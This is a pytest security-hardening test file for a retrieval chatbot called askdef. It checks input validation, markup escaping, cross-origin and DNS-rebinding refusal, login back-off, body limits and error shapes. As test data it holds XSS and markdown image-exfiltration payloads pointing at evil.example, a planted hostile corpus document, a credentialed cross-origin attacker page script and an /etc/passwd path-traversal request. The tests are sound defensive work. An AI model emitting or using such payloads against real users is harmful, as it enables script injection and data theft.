"""Hardening (issue #18), one reproduction per attack: output policy (no markup from a
document, a model or an LLM error reaches a page or a client), cross-origin reads, the login on
every route and its back-off, bounded bodies, askdef's error shape everywhere, bad text refused
before any model runs. Corpus links that leave the corpus are in test_ingest.py."""

from __future__ import annotations

import contextlib
import json
import re
import socket
import threading
import time
import uuid
from collections.abc import Iterable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest
from fastapi.testclient import TestClient
from html_check import active_content, bare_addresses, rendered_markdown
from starlette.routing import Mount, Route
from test_browser import ARGS, CHROMIUM

from askdef import Answer, AskDef, Settings
from askdef.errors import InputError, InvalidTextError, QuestionTooLongError
from askdef.index.embedding import Embedder
from askdef.safe_output import StreamEscaper, plain
from askdef.serve.chat import submitted
from askdef.serve.http_guard import PUBLIC, PUBLIC_PREFIXES, Backoff, BodyLimit
from askdef.serve.web import answer_turn, build_app
from fake_openai import FakeOpenAI
from test_web import AUTH, running

FX_QUESTION = "Which European companies are involved in Japan's F-X fighter program?"
FOLLOW_UP = "Which of them builds the engine?"


@pytest.fixture(scope="module")
def bot(indexed: AskDef) -> AskDef:
    s = indexed.settings
    return AskDef(
        settings=Settings(
            corpus_dir=s.corpus_dir, index_dir=s.index_dir, generator="extractive", judge="none"
        )
    )


@pytest.fixture(scope="module")
def client(bot: AskDef) -> Iterator[TestClient]:
    with TestClient(build_app(bot), base_url="http://localhost") as http:
        yield http


@pytest.fixture
def embedded(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Every text the embedder is asked to embed while the test runs."""
    texts: list[str] = []
    for name in ("embed_query", "embed_sentences", "embed_documents"):
        original = getattr(Embedder, name)

        def recording(self: Embedder, text: Any, *args: Any, _original: Any = original) -> Any:
            texts.extend([text] if isinstance(text, str) else text)
            return _original(self, text, *args)

        monkeypatch.setattr(Embedder, name, recording)
    return texts


def post(client: TestClient, path: str, body: dict[str, Any]) -> Any:
    """POST ``body`` as JSON escapes (httpx cannot encode a lone surrogate as UTF-8)."""
    return client.post(path, content=json.dumps(body), headers={"content-type": "application/json"})


def test_a_lone_surrogate_in_a_chat_completion_is_a_400_before_any_model_runs(
    client: TestClient, embedded: list[str]
) -> None:
    messages = [{"role": "user", "content": "Which firms\ud800 build engines?"}]
    response = post(client, "/v1/chat/completions", {"messages": messages})
    assert response.status_code == 400
    assert response.json()["error"] == {
        "message": "The question contains an invalid character (a lone UTF-16 surrogate U+D800, "
        "half of a character such as an emoji) at position 12: remove it and ask again.",
        "type": "InvalidTextError",
        "code": None,
        "param": None,
    }
    assert embedded == []


def test_history_messages_are_numbered_as_the_conversation_without_system_prompts(
    client: TestClient, embedded: list[str]
) -> None:
    messages = [
        {"role": "system", "content": "Be brief."},
        {"role": "user", "content": "What is F-X?"},
        {"role": "assistant", "content": "A fighter\udc00 program [1]."},
        {"role": "user", "content": FX_QUESTION},
    ]
    response = post(client, "/v1/chat/completions", {"messages": messages})
    assert response.status_code == 400
    message = response.json()["error"]["message"]
    assert message.startswith("History message 2 (assistant) contains an invalid character")
    assert "U+DC00" in message and embedded == []


def test_a_lone_surrogate_in_ask_history_is_a_400_json_error(
    client: TestClient, embedded: list[str]
) -> None:
    history = [
        {"role": "user", "content": "What is F-X?"},
        {"role": "assistant", "content": "A\ud800"},
    ]
    response = post(client, "/api/ask", {"question": FOLLOW_UP, "history": history})
    assert response.status_code == 400
    assert response.json() == {
        "error": "History message 2 (assistant) contains an invalid character (a lone UTF-16 "
        "surrogate U+D800, half of a character such as an emoji) at position 2: remove it and "
        "send the conversation again.",
        "type": "InvalidTextError",
    }
    assert embedded == []


@pytest.mark.parametrize("path", ["/api/ask", "/api/search"])
def test_a_control_character_in_the_question_is_a_400(
    client: TestClient, embedded: list[str], path: str
) -> None:
    response = post(client, path, {"question": "Which firms\x07 build engines?"})
    assert response.status_code == 400
    assert response.json() == {
        "error": "The question contains an invalid character (the control character U+0007) "
        "at position 12: remove it and ask again.",
        "type": "InvalidTextError",
    }
    assert embedded == []


def test_a_long_previous_question_does_not_refuse_a_short_follow_up(
    bot: AskDef, client: TestClient
) -> None:
    previous = (f"{FX_QUESTION} " * 200)[:10_000]
    history = [{"role": "user", "content": previous}, {"role": "assistant", "content": "…"}]
    response = post(client, "/api/ask", {"question": FOLLOW_UP, "history": history})
    assert response.status_code == 200, response.text
    answer = Answer.model_validate(response.json())
    assert answer.question == FOLLOW_UP and not answer.refused and answer.citations
    # the condensed query is bounded by the limit, keeping its end: the follow-up
    limit = bot.settings.max_question_chars
    assert len(answer.query) <= limit and answer.query.endswith(FOLLOW_UP)
    assert len(answer.query) > limit - len(FX_QUESTION) - 2  # cut at a word, not far before


def test_a_too_long_typed_question_is_still_413(bot: AskDef, client: TestClient) -> None:
    response = post(client, "/api/ask", {"question": "why " * 600})
    assert response.status_code == 413
    assert response.json()["type"] == "QuestionTooLongError"
    assert "limit is 2,000" in response.json()["error"]
    with pytest.raises(QuestionTooLongError, match="3,000 characters long"):
        bot.search("x" * 3000)


def test_an_over_long_question_is_refused_before_its_text_is_cleaned(
    bot: AskDef, client: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A megabyte of ``![`` took 21 s of CPU in the chat's clean-up (``plain``) before the
    length limit refused it: every entry point must refuse it with no more than the limit read."""
    import askdef.safe_output

    limit = bot.settings.max_question_chars
    parser = askdef.safe_output._parser()

    class Bounded:
        def parse(self, text: str) -> Any:
            assert len(text) <= limit + 100, f"cleaned {len(text):,} characters"
            return parser.parse(text)

    monkeypatch.setattr(askdef.safe_output, "_parser", Bounded)
    question = "![" * 100_000
    box, chat, pending = submitted(bot, question, [])  # the chat shows the question at once
    assert box == "" and pending == question and len(chat[-1]["content"]) <= limit + 1
    reply = list(answer_turn(bot, question, [], []))[-1].chat[-1]["content"]
    assert "200,000 characters long; the limit is 2,000" in reply
    for path, body in [
        ("/api/ask", {"question": question}),
        ("/v1/chat/completions", {"messages": [{"role": "user", "content": question}]}),
    ]:
        response = client.post(path, json=body)
        assert response.status_code == 413 and "the limit is 2,000" in response.text, path
    with pytest.raises(QuestionTooLongError):
        bot.ask(question)


def test_the_python_api_refuses_bad_text_before_any_model_runs(
    bot: AskDef, embedded: list[str]
) -> None:
    with pytest.raises(InputError, match=r"U\+D800.* at position 2"):
        bot.ask("a\ud800b")
    with pytest.raises(InvalidTextError, match=r"^History message 1 \(user\) .* U\+001B"):
        bot.stream(FOLLOW_UP, [{"role": "user", "content": "\x1b[31mred"}])
    with pytest.raises(InvalidTextError, match=r"^The question .* U\+0085"):
        bot.search("next\x85line")
    assert embedded == []


def test_tabs_and_line_breaks_are_text(bot: AskDef, embedded: list[str]) -> None:
    question = "Which European\tcompanies\r\nare in F-X?"
    assert bot.search(question) and question in embedded  # what the other tests count
    history = [{"role": "user", "content": "What is\tF-X?\r\n"}]
    assert bot.ask(FOLLOW_UP, history).question == FOLLOW_UP


# --------------------------------------------------------------------------- output policy

ATTACKS = [
    "![p](http://evil.example/x?q=((secret)))",  # nested parentheses
    "![a][r] and\n\n[r]: http://evil.example/r.png",  # reference-style image
    "<img src=http://evil.example/i.png onerror=alert(1)",  # unclosed tag
    '<img src="http://evil.example/i.png" onerror="alert(1)">',
    "<script>alert(1)</script>",
    "<svg onload=alert(2)></svg>",
    "<iframe src=http://evil.example/f></iframe>",
    "[click](javascript:alert(3))",
    "[x][j]\n\n[j]: javascript:alert(4)",
    "&lt;img src=http://evil.example/e.png onerror=alert(5)&gt;",  # entities decoded by a parser
    r"\[x\](http://evil.example/esc) \!\[y\](http://evil.example/esc2.png)",
    "`<img src=http://evil.example/code.png>` then <http://evil.example/auto>",
    "visit http://evil.example/re-enter?password or HTTPS://EVIL.example",  # bare addresses
    "see www.evil.example or mail ada@evil.example (ftp://evil.example/f)",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_markup_is_inert_on_the_page_and_in_markdown_clients(attack: str) -> None:
    text = f"Japan works with Europe [1]. {attack} Done."
    safe = plain(text)
    assert active_content(rendered_markdown(safe)) == []  # the chat, or a client, renders it
    assert "Japan works with Europe [1]." in safe
    assert bare_addresses(safe) == []  # nor does a GitHub-flavoured renderer link an address
    escaper = StreamEscaper()  # /api/ask's deltas, cut at every character
    streamed = "".join(escaper.feed(ch) for ch in text) + escaper.flush()
    assert active_content(rendered_markdown(streamed)) == [] and bare_addresses(streamed) == []


HOSTILE_DOC = """# Aurora

The Aurora programme builds orbital greenhouses ![p](http://evil.example/x?q=((secret)))
for the lunar colony.

The Aurora greenhouses grow wheat <script>alert(1)</script><svg onload=alert(2)></svg>
and rice [click](javascript:alert(3)).

The Aurora programme is funded by the Selene agency ![a][r] since 2031.

[r]: http://evil.example/r.png
"""


@pytest.fixture(scope="module")
def hostile_corpus(tmp_path_factory: pytest.TempPathFactory, embedder: Embedder) -> AskDef:
    root = tmp_path_factory.mktemp("hostile")
    (root / "corpus").mkdir()
    (root / "corpus" / "aurora.md").write_text(HOSTILE_DOC, encoding="utf-8")
    settings = Settings(
        corpus_dir=root / "corpus", index_dir=root / "index", generator="extractive", judge="none"
    )
    bot = AskDef(settings=settings)
    bot.ingest()
    return bot


def test_a_hostile_document_reaches_no_client_as_markup(hostile_corpus: AskDef) -> None:
    question = "What does the Aurora programme build?"
    turn = list(answer_turn(hostile_corpus, question, [], []))[-1]
    assert "greenhouses" in turn.chat[-1]["content"]
    shown = rendered_markdown(turn.chat[-1]["content"] + "\n\n" + turn.status)
    assert "evil.example" not in shown  # the answer keeps the words, not the address
    assert active_content(shown + turn.sources) == []  # the sources quote it verbatim, as text
    with TestClient(build_app(hostile_corpus), base_url="http://localhost") as http:
        answer = http.post("/api/ask", json={"question": question}).json()
        v1 = http.post(
            "/v1/chat/completions", json={"messages": [{"role": "user", "content": question}]}
        ).json()
        page = http.get("/documents/aurora.md")
    content = v1["choices"][0]["message"]["content"]
    assert "greenhouses" in answer["text"] and "Sources:\n[1] aurora.md ¶" in content
    for text in (answer["text"], content, *answer["notices"]):
        assert active_content(rendered_markdown(text)) == [] and "evil.example" not in text
    # the quote is data: verbatim in `citations`, never in the Markdown content
    assert "((secret))" in v1["citations"][0]["quote"] and "((secret))" not in content
    body = page.text.split("<body>", 1)[1]  # the head is askdef's own meta and style
    assert active_content(body) == []
    assert "default-src 'none'" in page.headers["content-security-policy"]


EVIL_ERROR = "<img src=http://evil.example/e.png onerror=alert(1)> ![x](http://evil.example/p.png)"


def test_an_llm_error_body_is_plain_text_in_notices_status_and_errors(indexed: AskDef) -> None:
    s = indexed.settings
    settings = Settings(
        corpus_dir=s.corpus_dir, index_dir=s.index_dir, generator="openai", llm_retries=0
    )
    with FakeOpenAI([("status", 500, EVIL_ERROR)]) as server, pytest.MonkeyPatch.context() as env:
        env.setenv("OPENAI_BASE_URL", server.url)
        env.setenv("OPENAI_API_KEY", "test")
        bot = AskDef(settings=settings)
        turns = list(answer_turn(bot, FX_QUESTION, [], []))
        answer = bot.ask(FX_QUESTION)
        failing = AskDef(settings=settings.model_copy(update={"fallback": False}))
        with TestClient(build_app(failing), base_url="http://localhost") as http:
            error = http.post("/api/ask", json={"question": FX_QUESTION}).json()
            streamed = http.post("/api/ask", json={"question": FX_QUESTION, "stream": True}).text
    lines = "\n\n".join(t.status + "\n\n" + t.chat[-1]["content"] for t in turns)
    shown = rendered_markdown(lines)
    assert "failed" in shown and active_content(shown) == []
    assert any("failed" in n for n in answer.notices)
    for text in (*answer.notices, error["error"], streamed):
        assert active_content(rendered_markdown(text)) == [], text


def test_the_chat_page_forbids_external_images_frames_and_scripts(bot: AskDef) -> None:
    with TestClient(build_app(bot), base_url="http://localhost") as http:
        policy = http.get("/").headers["content-security-policy"]
    directives = dict(d.strip().split(" ", 1) for d in policy.split(";"))
    assert directives["img-src"] == "'self' data: blob:"
    assert directives["frame-src"] == "'none'" and directives["object-src"] == "'none'"
    assert "http" not in directives["script-src"] and "*" not in policy


def test_llm_errors_do_not_tell_clients_where_the_llm_server_is(
    indexed: AskDef, caplog: pytest.LogCaptureFixture
) -> None:
    s = indexed.settings
    settings = Settings(
        corpus_dir=s.corpus_dir, index_dir=s.index_dir, generator="openai", llm_retries=0
    )
    script = [("status", 500, "overloaded")] * 6
    with FakeOpenAI(script) as server, pytest.MonkeyPatch.context() as env:
        env.setenv("OPENAI_BASE_URL", server.url)
        env.setenv("OPENAI_API_KEY", "test")
        where = urlsplit(server.url).netloc  # 127.0.0.1:<port>
        fallback = AskDef(settings=settings)
        failing = AskDef(settings=settings.model_copy(update={"fallback": False}))
        turn = list(answer_turn(fallback, FX_QUESTION, [], []))[-1]
        shown = [turn.status, turn.chat[-1]["content"]]
        with TestClient(build_app(fallback), base_url="http://localhost") as http:
            shown.append(http.post("/api/ask", json={"question": FX_QUESTION}).text)
        with TestClient(build_app(failing), base_url="http://localhost") as http:
            question = {"question": FX_QUESTION}
            shown.append(http.post("/api/ask", json=question).text)
            shown.append(http.post("/api/ask", json={**question, "stream": True}).text)
            v1 = {"messages": [{"role": "user", "content": FX_QUESTION}]}
            shown.append(http.post("/v1/chat/completions", json=v1).text)
    assert all("answered HTTP 500" in text for text in shown[1:]), shown  # said, in each
    assert not any(where in text for text in shown), shown  # but not where
    assert where in caplog.text  # the server log says which server failed


# --------------------------------------------------------------------------- cross-origin


@pytest.fixture(scope="module")
def chromium() -> Iterator[Any]:
    if not Path(CHROMIUM).exists():
        pytest.skip(f"{CHROMIUM} is missing: apt-get install -y chromium")
    sync_api = pytest.importorskip("playwright.sync_api")
    rules = "--host-resolver-rules=MAP askdef.test 127.0.0.1, MAP evil.test 127.0.0.1"
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=[*ARGS, rules])
        yield browser
        browser.close()


ATTACKER_PAGE = b"""<!doctype html><title>evil</title><script>
const target = "http://askdef.test:" + new URLSearchParams(location.search).get("port");
async function read(path, init) {
  try {
    const r = await fetch(target + path, {credentials: "include", ...init});
    return r.status + " " + (await r.text()).slice(0, 200);
  } catch (e) { return "unreadable"; }
}
const post = {method: "POST", headers: {"Content-Type": "text/plain"}};
(async () => {
  window.result = {
    config: await read("/config"),
    search: await read("/api/search", {...post, body: JSON.stringify({question: "F-X"})}),
    join: await read("/gradio_api/queue/join", {...post, body: "{}"}),
    health: await read("/api/health"),
  };
})();
</script>"""


@contextmanager
def attacker_site() -> Iterator[str]:
    """A page on http://evil.test:<port> that tries to read askdef (see ATTACKER_PAGE)."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(ATTACKER_PAGE)))
            self.end_headers()
            self.wfile.write(ATTACKER_PAGE)

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://evil.test:{server.server_port}"
    finally:
        server.shutdown()
        server.server_close()


def _attack(chromium: Any, bot: AskDef, *, allow_site: bool) -> dict[str, str]:
    """What a page on evil.test reads from askdef served under the host name askdef.test."""
    with attacker_site() as site:
        origins = (site,) if allow_site else ()
        served_as = {"cors_origins": origins, "allowed_hosts": ("askdef.test",)}
        target = AskDef(settings=bot.settings.model_copy(update=served_as))
        with running(target) as url:
            page = chromium.new_page()
            page.goto(f"{site}/?port={urlsplit(url).port}")
            page.wait_for_function("window.result !== undefined", timeout=60_000)
            result: dict[str, str] = page.evaluate("window.result")
            page.close()
    return result


def test_a_foreign_page_reads_nothing_unless_its_origin_is_listed(
    chromium: Any, bot: AskDef
) -> None:
    refused = _attack(chromium, bot, allow_site=False)
    assert refused == dict.fromkeys(("config", "search", "join", "health"), "unreadable")
    listed = _attack(chromium, bot, allow_site=True)
    assert listed["health"].startswith("200 ") and listed["config"].startswith("200 ")


def test_foreign_origins_are_refused_before_any_route_runs(bot: AskDef) -> None:
    named = AskDef(settings=bot.settings.model_copy(update={"allowed_hosts": ("askdef.test",)}))
    with TestClient(build_app(named), base_url="http://askdef.test") as http:
        foreign = {"Origin": "http://evil.test"}
        for method, path in [("GET", "/config"), ("POST", "/gradio_api/queue/join")]:
            response = http.request(method, path, headers=foreign)
            assert response.status_code == 403 and response.json()["type"] == "Forbidden"
            assert "access-control-allow-origin" not in response.headers
        preflight = http.options(
            "/api/search", headers={**foreign, "Access-Control-Request-Method": "POST"}
        )
        assert preflight.status_code == 403
        same = http.get("/config", headers={"Origin": "http://askdef.test"})
        assert same.status_code == 200


def test_a_rebound_host_name_reads_nothing_on_any_route(bot: AskDef) -> None:
    """DNS rebinding: a page on evil.example, its name re-pointed at 127.0.0.1, calls askdef
    same-origin; only the Host header tells it apart from the real chat."""
    doc = bot.documents()[0]
    routes = [
        ("GET", f"/api/documents/{doc}", None),
        ("POST", "/api/ask", {"question": FX_QUESTION}),
        ("POST", "/api/search", {"question": FX_QUESTION}),
        ("GET", "/", None),
        ("GET", "/config", None),
        ("GET", "/gradio_api/info", None),
        ("GET", "/v1/models", None),
        ("GET", "/api/health", None),
    ]
    named = AskDef(settings=bot.settings.model_copy(update={"allowed_hosts": ("askdef.lan",)}))
    with running(named) as url:
        port = urlsplit(url).port

        def call(method: str, path: str, body: Any, host: str) -> httpx.Response:
            headers = {"Host": host, "Origin": f"http://{host}"}
            return httpx.request(method, url + path, json=body, headers=headers, timeout=60)

        for method, path, body in routes:
            refused = call(method, path, body, f"evil.example:{port}")
            assert refused.status_code == 421, (path, refused.text)
            assert refused.json()["error"].startswith(
                "This askdef server does not answer to the host name 'evil.example'"
            )
            assert doc not in refused.text and "Rolls-Royce" not in refused.text
        for host in (f"127.0.0.1:{port}", f"localhost:{port}", f"[::1]:{port}", "askdef.lan"):
            assert call("GET", f"/api/documents/{doc}", None, host).status_code == 200, host
        answered = call("POST", "/api/ask", {"question": FX_QUESTION}, f"localhost:{port}")
        assert answered.status_code == 200 and "Rolls-Royce" in answered.text


# --------------------------------------------------------------------------- login


def _routes(routes: Iterable[Any], prefix: str = "") -> Iterator[tuple[str, str]]:
    """(method, path) of every HTTP route, through mounts and included routers."""
    for route in routes:
        if isinstance(route, Mount):
            yield from _routes(route.routes, prefix + route.path)
        elif hasattr(route, "original_router"):  # FastAPI's included router (Gradio's API)
            yield from _routes(route.original_router.routes, prefix)
        elif isinstance(route, Route):
            for method in sorted(route.methods or []):
                if method != "HEAD":
                    yield method, prefix + route.path


def test_with_a_login_every_route_but_health_and_the_login_page_needs_it(bot: AskDef) -> None:
    app = build_app(bot, auth=AUTH)
    routes = sorted(set(_routes(app.routes)))
    assert ("POST", "/gradio_api/reset") in routes and ("POST", "/gradio_api/cancel") in routes
    open_routes = []
    with TestClient(app, base_url="http://localhost") as http:
        for method, path in routes:
            url = re.sub(r"\{[^}]+\}", "x", path)
            if http.request(method, url).status_code != 401:
                open_routes.append(path)
    assert set(open_routes) <= set(PUBLIC) | {
        p for p in open_routes if p.startswith(PUBLIC_PREFIXES)
    }, open_routes
    assert "/api/health" in open_routes


def test_failed_logins_back_off_per_client(bot: AskDef) -> None:
    with TestClient(build_app(bot, auth=AUTH), base_url="http://localhost") as http:
        wrong = {"username": AUTH[0], "password": "nope"}
        codes = [http.post("/login", data=wrong).status_code for _ in range(5)]
        assert codes[:3] == [400, 400, 400] and codes[3:] == [429, 429]
        late = http.post("/login", data={"username": AUTH[0], "password": AUTH[1]})
        assert late.status_code == 429 and int(late.headers["retry-after"]) >= 1
        basic = http.get("/v1/models", auth=("ada", "nope"))  # the same client, by address
        assert basic.status_code == 429


def test_a_burst_of_bad_logins_does_not_lock_out_the_right_password(bot: AskDef) -> None:
    """30 wrong logins sent at once from one address were all checked, then all counted: the
    right password then waited 5 minutes. Only the free attempts are checked now, so the wait
    after the burst is the first step of the back-off."""
    with running(bot, auth=AUTH) as url:
        wrong = {"username": AUTH[0], "password": "nope"}

        def attempt(_: int) -> httpx.Response:
            return httpx.post(f"{url}/login", data=wrong, timeout=30)

        with ThreadPoolExecutor(30) as pool:
            burst = list(pool.map(attempt, range(30)))
        assert {r.status_code for r in burst} <= {400, 429}
        wait = max(int(r.headers.get("retry-after", 0)) for r in burst)
        late = httpx.post(f"{url}/login", data={**wrong, "password": AUTH[1]}, timeout=30)
        assert late.status_code == 429 and int(late.headers["retry-after"]) <= 1, late.headers
        assert wait <= 1 and sum(r.status_code == 400 for r in burst) <= 3  # Backoff.free
        time.sleep(1.1)
        right = httpx.post(f"{url}/login", data={**wrong, "password": AUTH[1]}, timeout=30)
        assert right.status_code == 200, right.text


def test_the_backoff_doubles_and_forgets_on_success() -> None:
    now = [0.0]
    backoff = Backoff(free=2, longest=8.0, clock=lambda: now[0])
    for _ in range(2):
        assert backoff.wait("a") == 0
        backoff.failed("a")
    waits = []
    for _ in range(5):
        waits.append(backoff.wait("a"))
        now[0] += waits[-1]
        backoff.failed("a")
    assert waits == [1.0, 2.0, 4.0, 8.0, 8.0] and backoff.wait("b") == 0
    backoff.succeeded("a")
    assert backoff.wait("a") == 0


# --------------------------------------------------------------------------- bodies and errors


def test_a_chunked_body_over_the_limit_is_refused_while_it_is_read(bot: AskDef) -> None:
    limit = bot.settings.max_body_bytes
    with TestClient(build_app(bot), base_url="http://localhost") as http:
        chunks = (b"x" * 100_000 for _ in range(100))  # 10 MB, no Content-Length
        response = http.post("/api/ask", content=chunks)
    assert response.status_code == 413 and f"{limit:,} bytes" in response.json()["error"]


def test_the_body_limit_stops_reading_at_the_limit() -> None:
    import asyncio

    pulled, sent, reached = [0], [], []

    async def receive() -> dict[str, Any]:
        pulled[0] += 1
        return {"type": "http.request", "body": b"x" * 100_000, "more_body": True}

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    async def app(scope: Any, receive: Any, send: Any) -> None:
        reached.append(scope)

    scope = {"type": "http", "method": "POST", "path": "/api/ask", "headers": []}
    limited = BodyLimit(app, limit=1_000_000)(scope, receive, send)
    with ThreadPoolExecutor(1) as thread:  # Playwright's loop may be running in this one
        thread.submit(asyncio.run, limited).result()
    assert pulled[0] == 11 and sent[0]["status"] == 413 and reached == []


def test_a_body_sent_a_byte_at_a_time_is_cut_off(bot: AskDef) -> None:
    """A client that sends its body a byte every half second would hold a connection (and
    its memory) open for good; after ``body_timeout`` it gets a 408 and the connection closes."""
    slow = AskDef(settings=bot.settings.model_copy(update={"body_timeout": 1.0}))
    with running(slow) as url, socket.create_connection(("127.0.0.1", urlsplit(url).port)) as s:
        s.sendall(
            b"POST /api/search HTTP/1.1\r\nHost: localhost\r\n"
            b"Content-Type: application/json\r\nContent-Length: 200\r\n\r\n{"
        )
        s.settimeout(0.5)
        reply, closed = b"", False
        for _ in range(40):  # 20 s at most: never a reply before the fix
            try:
                received = s.recv(4096)
                if not received:
                    closed = True
                    break
                reply += received
            except TimeoutError:
                with contextlib.suppress(ConnectionError):
                    s.sendall(b" ")  # one more byte of the body
            except ConnectionError:
                closed = True
                break
        assert reply.startswith(b"HTTP/1.1 408 "), reply
        assert b"did not arrive within 1 s (ASKDEF_BODY_TIMEOUT)" in reply
        assert closed  # by the server, which reads no more of it


def test_gradio_keeps_no_uploaded_file(bot: AskDef) -> None:
    """The chat has no upload component, yet Gradio's upload route took any file and kept it
    in its temporary folder."""
    from gradio.utils import get_upload_folder

    name = f"probe-{uuid.uuid4().hex}.txt"
    with TestClient(build_app(bot), base_url="http://localhost") as http:
        for path in ("/gradio_api/upload", "/gradio_api/upload/", "//gradio_api//upload"):
            sent = http.post(path, files={"files": (name, b"kept?", "text/plain")})
            assert sent.status_code == 404, (path, sent.text)
            assert sent.json() == {
                "error": "This askdef server takes no file uploads.",
                "type": "NotFound",
            }
        assert http.get("/gradio_api/upload_progress?upload_id=x").status_code == 404
    assert not list(Path(get_upload_folder()).rglob(name))


def test_every_error_has_askdefs_shape_and_no_traceback(
    bot: AskDef, monkeypatch: pytest.MonkeyPatch
) -> None:
    with TestClient(
        build_app(bot), base_url="http://localhost", raise_server_exceptions=False
    ) as http:
        cases = [
            http.get("/no/such/page"),
            http.get("/api/ask"),
            http.post("/api/ask", content=b"{", headers={"content-type": "application/json"}),
            http.post("/gradio_api/queue/join", content=b"{"),
            http.get("/gradio_api/file=/etc/passwd"),
        ]
        monkeypatch.setattr(bot, "search", lambda *a, **k: 1 / 0)
        crash = http.post("/api/search", json={"question": FX_QUESTION})
        v1 = http.post(
            "/v1/chat/completions", content=b"[", headers={"content-type": "application/json"}
        )
    for response in [*cases, crash]:
        assert response.status_code >= 400, response.text
        assert set(response.json()) == {"error", "type"}, response.text
        assert "Traceback" not in response.text
    assert crash.status_code == 500 and "ZeroDivisionError" in crash.json()["error"]
    assert set(v1.json()["error"]) == {"message", "type", "code", "param"}
